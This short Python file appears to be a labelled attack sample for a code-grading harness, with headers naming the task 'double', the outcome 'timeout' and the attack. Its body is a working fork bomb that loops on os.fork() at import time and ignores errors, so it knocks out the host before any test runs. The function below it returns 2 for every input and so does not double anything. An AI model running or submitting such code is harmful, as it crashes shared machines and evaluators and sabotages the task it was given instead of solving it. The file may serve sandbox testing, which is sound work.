# task: double
# outcome: timeout
# attack: forks without end before the first call
import os

while True:
    try:
        os.fork()
    except OSError:
        pass


def double(x):
    return 2
